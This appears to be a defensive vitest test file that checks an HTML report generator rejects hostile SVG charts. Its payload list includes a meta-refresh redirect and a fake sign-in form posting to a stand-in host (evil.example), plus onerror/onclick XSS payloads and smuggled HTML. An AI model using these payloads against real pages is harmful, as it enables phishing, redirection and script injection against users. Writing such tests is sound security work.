// Red team, issue 10: the HTML report's check of a chart's SVG (its only defence besides the CSP
// meta, which does not govern navigation nor form submission).
import { describe, expect, it } from "vitest";
import { htmlReport } from "../../src/sizing/report.js";
import { latencyChartSvg, throughputChartSvg } from "../../src/sizing/charts.js";

const report = (svg: string) => htmlReport({ title: "t", generatedAt: "2026-12-02T01:00:00Z", inputs: [], answer: [], charts: [{ title: "c", svg }] });

describe("report: hostile SVG", () => {
  const hostile = {
    "meta refresh (navigates away: CSP does not cover it)": '<svg><meta http-equiv="refresh" content="0;url=https://evil.example/"></svg>',
    "a form (CSP default-src does not cover form-action)": '<svg><form action="https://evil.example/"><input name="p"><button>Sign in</button></form></svg>',
    "handler after a slash": '<svg><img/src/onerror=alert(1)></svg>',
    "handler on an SVG element after a slash": '<svg><rect/onclick="alert(1)"/></svg>',
    "animate setting an attribute": '<svg><set attributeName="fill" to="red"/></svg>',
    "HTML outside the svg": '<svg></svg><b>phish</b><svg></svg>',
    "a comment hiding markup": '<svg><!-- x --></svg>',
    "a base element": '<svg><base target="_blank"></svg>',
  };
  for (const [name, svg] of Object.entries(hostile)) {
    it(`refuses ${name}`, () => {
      expect(() => report(svg)).toThrow(/SVG|svg/);
    });
  }

  it("the charts this project makes still pass", async () => {
    const a = await throughputChartSvg({ title: "t <x>", operation: "op", series: [{ hsmCount: 1, opsPerSec: 10, source: "model" }, { hsmCount: 2, opsPerSec: 15, source: "published" }] });
    const b = await latencyChartSvg({ title: "l", series: [{ offeredPerSec: 1, p50Ms: 1, p95Ms: 2, p99Ms: 3, source: "model" }, { offeredPerSec: 2, p50Ms: 1, p95Ms: 2, p99Ms: 4, source: "model" }], kneePerSec: 1, targetP99Ms: 3 });
    expect(report(a)).toContain("<svg");
    expect(report(b)).toContain("<svg");
  });
});
